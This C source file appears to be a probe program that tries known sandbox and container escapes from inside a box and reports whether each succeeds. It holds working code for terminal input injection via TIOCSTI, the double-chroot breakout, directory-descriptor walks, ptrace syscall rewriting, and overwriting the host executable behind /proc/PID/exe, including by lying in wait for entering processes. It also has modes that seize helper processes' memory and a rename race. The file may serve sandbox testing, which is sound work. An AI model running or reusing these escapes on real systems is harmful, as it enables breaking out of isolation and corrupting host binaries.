// Known ways out of other programs' boxes, tried from within one.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int say(const char *what, long result) {
    printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "ok");
    fflush(stdout);
    return result < 0;
}

// Pushes a line into the terminal's input, as if it were typed; `high` sets bits that the kernel ignores.
static int inject(const char *text, unsigned long high) {
    int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR)};
    for (int i = 0; i < 4; i++) {
        if (fds[i] < 0) continue;
        int failed = 0;
        for (const char *c = text; *c && !failed; c++) failed = syscall(SYS_ioctl, fds[i], TIOCSTI | high, c) < 0;
        if (!failed) failed = syscall(SYS_ioctl, fds[i], TIOCSTI | high, "\n") < 0;
        say("inject", failed ? -1 : 0);
        if (!failed) return 0;
    }
    return 1;
}

// Pastes the console's selection: 3 is TIOCL_PASTESEL.
static int paste(unsigned long high) {
    char subcode = 3;
    return say("paste", syscall(SYS_ioctl, 0, TIOCLINUX | high, &subcode));
}

// The classic: a directory that stays open outside of a second chroot, and `..` from there.
static int escape(const char *secret) {
    mkdir("/tmp/.cell", 0700);
    int here = open(".", O_RDONLY | O_DIRECTORY);
    int entered = chroot("/tmp/.cell");
    rmdir("/tmp/.cell");
    if (entered == 0) {
        if (here >= 0) (void)!fchdir(here);
        for (int i = 0; i < 64; i++) (void)!chdir("..");
        (void)!chroot(".");
    }
    say("chroot", entered);
    return say("reach", open(secret, O_RDONLY));
}

static int walk(const char *secret) {
    char path[8192] = "";
    for (int i = 0; i < 64; i++) strcat(path, "../");
    strncat(path, secret + 1, 4096);
    return say("reach", open(path, O_RDONLY));
}

// Through each directory that was inherited open.
static int descend(const char *secret) {
    char path[8192] = "";
    for (int i = 0; i < 64; i++) strcat(path, "../");
    strncat(path, secret + 1, 4096);
    for (int fd = 0; fd < 64; fd++)
        if (openat(fd, path, O_RDONLY) >= 0) return say("reach", 0);
    errno = ENOENT;
    return say("reach", -1);
}

// A tracer that turns a harmless call of its child into a forbidden one: mkdir of /tmp/traced.
static int rewrite(const char *directory) {
#ifdef __x86_64__
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        raise(SIGSTOP);
        syscall(SYS_access, directory, 0700);
        _exit(0);
    }
    int status;
    waitpid(child, &status, 0);
    if (!WIFSTOPPED(status)) return say("trace", -1);
    ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL);
    for (;;) {
        if (ptrace(PTRACE_SYSCALL, child, 0, 0) < 0) break;
        if (waitpid(child, &status, 0) < 0 || !WIFSTOPPED(status)) break;
        struct user_regs_struct registers;
        ptrace(PTRACE_GETREGS, child, 0, &registers);
        if (WSTOPSIG(status) == (SIGTRAP | 0x80) && registers.orig_rax == SYS_access) {
            registers.orig_rax = SYS_mkdir;
            registers.rax = (unsigned long)-ENOSYS;
            ptrace(PTRACE_SETREGS, child, 0, &registers);
        }
    }
    return say("mkdir", access(directory, F_OK));
#else
    errno = ENOSYS;
    return say("mkdir", -1);
#endif
}

// Holds what /proc/PID/exe names open and writes into it as soon as nobody executes it any more.
static int overwrite_held(int held, int tries) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int i = 0; i < tries; i++) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) { (void)!write(fd, "OVERWRITTEN", 11); close(fd); return 0; }
        if (errno != ETXTBSY) return -1;
        usleep(10000);
    }
    return -1;
}

static int overwrite(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int direct = open(path, O_RDWR);
    if (direct >= 0) { (void)!write(direct, "OVERWRITTEN", 11); return say("overwrite", 0); }
    say("write", -1);
    int held = open(path, O_RDONLY);
    if (say("hold", held)) return 1;
    // Outlive whoever waits for us.
    if (fork() != 0) return 0;
    setsid();
    overwrite_held(held, 300);
    return 0;
}

// Lies in wait for processes that enter, and takes hold of the first whose executable is not of this box.
static int ambush(const char *own, int seconds) {
    struct stat mine, theirs;
    stat(own, &mine);
    say("waiting", 0);
    for (long i = 0; i < seconds * 20000L; i++) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while (dir && (entry = readdir(dir))) {
            char path[300];
            // Process 1 stays as long as the box does: what comes later is what goes again.
            if (atoi(entry->d_name) <= 1) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            if (fstat(fd, &theirs) == 0 && theirs.st_dev != mine.st_dev) {
                say("caught", 0);
                return say("overwrite", overwrite_held(fd, 300));
            }
            close(fd);
        }
        if (dir) closedir(dir);
        usleep(50);
    }
    return say("caught", -1);
}

// Whether the process still is what a helper is before it executes the command: `word` is one of its arguments.
static int is_helper(int pid, const char *word) {
    char path[64], text[4096];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t length = read(fd, text, sizeof text - 1);
    close(fd);
    for (ssize_t i = 0; i < length; i += (ssize_t)strnlen(text + i, length - i) + 1)
        if (!strcmp(text + i, word)) return 1;
    return 0;
}

static unsigned long permitted_of(int pid) {
    char path[64], text[8192];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t length = read(fd, text, sizeof text - 1);
    close(fd);
    text[length > 0 ? length : 0] = 0;
    char *line = strstr(text, "CapPrm:");
    return line ? strtoul(line + 7, NULL, 16) : 0;
}

// Lies in wait for processes that enter this pid namespace and looks into each as long as it is a helper still.
static int stalk(const char *word, int seconds) {
    int next = getpid() + 1, found = 0;
    unsigned long permitted = 0;
    long opened = 0, attached = 0, written = 0;
    time_t end = time(NULL) + seconds;
    say("waiting", 0);
    while (time(NULL) < end) {
        // Ids are given out in order, and some are gone before they are seen.
        for (int pid = next; pid < next + 64; pid++) {
            char path[64];
            if (kill(pid, 0) < 0 && errno == ESRCH) continue;
            while (is_helper(pid, word)) {
                if (!found++) say("found", 0);
                permitted |= permitted_of(pid);
                snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
                int descriptor = open(path, O_RDONLY | O_NONBLOCK);
                snprintf(path, sizeof path, "/proc/%d/mem", pid);
                int memory = open(path, O_RDWR);
                long seized = ptrace(PTRACE_SEIZE, pid, 0, 0);
                // What has become the command meanwhile may be looked into.
                int still = is_helper(pid, word);
                if (still) { opened += descriptor >= 0; written += memory >= 0; attached += seized == 0; }
                if (descriptor >= 0) close(descriptor);
                if (memory >= 0) close(memory);
                if (seized == 0) { kill(pid, SIGKILL); waitpid(pid, NULL, __WALL); }
            }
            next = pid + 1;
        }
    }
    printf("helpers %d descriptors %ld memory %ld attached %ld permitted %lx\n", found, opened, written, attached, permitted);
    return 0;
}

static int trace(int pid) {
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int failed = say("memory", open(path, O_RDWR));
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    failed += say("environment", open(path, O_RDONLY));
    snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
    failed += say("descriptors", readlink(path, target, sizeof target));
    long attached = ptrace(PTRACE_ATTACH, pid, 0, 0);
    if (attached == 0) { waitpid(pid, NULL, __WALL); ptrace(PTRACE_DETACH, pid, 0, 0); }
    return failed + say("attach", attached);
}

// Swaps two names until it is killed; prints the count now and then through a file.
static int swap(const char *one, const char *two, const char *counter) {
    int fd = open(counter, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    for (unsigned long i = 1;; i++) {
        if (renameat2(AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE) < 0) return say("swap", -1);
        if (i % 1000 == 0) {
            char text[32];
            int length = snprintf(text, sizeof text, "%020lu", i);
            (void)!pwrite(fd, text, length, 0);
        }
    }
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "inject") && argc > 2) return inject(argv[2], 0);
    if (!strcmp(what, "inject-high") && argc > 2) return inject(argv[2], 1UL << 32);
    if (!strcmp(what, "paste")) return paste(0);
    if (!strcmp(what, "paste-high")) return paste(1UL << 32);
    if (!strcmp(what, "escape") && argc > 2) return escape(argv[2]);
    if (!strcmp(what, "walk") && argc > 2) return walk(argv[2]);
    if (!strcmp(what, "descend") && argc > 2) return descend(argv[2]);
    if (!strcmp(what, "rewrite") && argc > 2) return rewrite(argv[2]);
    if (!strcmp(what, "overwrite") && argc > 2) return overwrite(argv[2]);
    if (!strcmp(what, "ambush") && argc > 3) return ambush(argv[2], atoi(argv[3]));
    if (!strcmp(what, "stalk") && argc > 3) return stalk(argv[2], atoi(argv[3]));
    if (!strcmp(what, "trace") && argc > 2) return trace(atoi(argv[2]));
    if (!strcmp(what, "swap") && argc > 4) return swap(argv[2], argv[3], argv[4]);
    fprintf(stderr, "attack: no way %s\n", what);
    return 2;
}
